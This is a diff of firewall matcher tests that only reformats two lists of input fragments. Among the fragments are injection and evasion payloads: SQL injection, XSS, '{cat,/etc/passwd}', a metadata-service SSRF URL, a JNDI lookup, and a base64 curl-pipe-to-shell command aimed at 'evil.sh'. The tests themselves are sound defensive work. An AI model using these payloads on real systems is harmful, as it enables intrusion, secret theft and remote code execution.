@@ -359,10 +359,36 @@ def test_fields_judged_together_get_the_candidates_they_get_alone(bundled_signat
 
     rules = compile_signatures(bundled_signatures, paranoia=4)
     fragments = [
-        "hello", "O'Brien", "a+b@example.com", "%27%20or%201=1", "&lt;script&gt;", "\\x3cscript", "\\u0027",
-        "\\", "/*", "*/", "${IFS}", "{cat,/etc/passwd}", "c'a't", "../../", "..\\..\\", "ＳＥＬＥＣＴ",
-        "Y3VybCBodHRwOi8vZXZpbC5zaHxzaA==", "union select", "<img src=x onerror=alert(1)>", "\t\n", "\x00",
-        "http://169.254.169.254/", "${jndi:ldap://x}", "{{7*7}}", " ", "'", '"', "%", "&", "#",
+        "hello",
+        "O'Brien",
+        "a+b@example.com",
+        "%27%20or%201=1",
+        "&lt;script&gt;",
+        "\\x3cscript",
+        "\\u0027",
+        "\\",
+        "/*",
+        "*/",
+        "${IFS}",
+        "{cat,/etc/passwd}",
+        "c'a't",
+        "../../",
+        "..\\..\\",
+        "ＳＥＬＥＣＴ",
+        "Y3VybCBodHRwOi8vZXZpbC5zaHxzaA==",
+        "union select",
+        "<img src=x onerror=alert(1)>",
+        "\t\n",
+        "\x00",
+        "http://169.254.169.254/",
+        "${jndi:ldap://x}",
+        "{{7*7}}",
+        " ",
+        "'",
+        '"',
+        "%",
+        "&",
+        "#",
     ]
     rng = random.Random(2026)
     for _ in range(150):
@@ -390,7 +416,20 @@ def test_reduced_chains_give_the_candidates_of_the_full_chains(bundled_signature
     from firewall.engine.matcher import _applicable, _chain_hits, _FieldTexts
 
     rules = compile_signatures(bundled_signatures, paranoia=4)
-    fragments = ["a+b", "O'Brien", "%27", "%26lt%3B", "&amp;", "\\u003c", "ＡＢＣ", "/*x*/", "${IFS}", "x//y", "union", "select"]
+    fragments = [
+        "a+b",
+        "O'Brien",
+        "%27",
+        "%26lt%3B",
+        "&amp;",
+        "\\u003c",
+        "ＡＢＣ",
+        "/*x*/",
+        "${IFS}",
+        "x//y",
+        "union",
+        "select",
+    ]
     rng = random.Random(5)
     for _ in range(400):
         text = "".join(rng.choice(fragments) for _ in range(rng.randint(1, 6)))
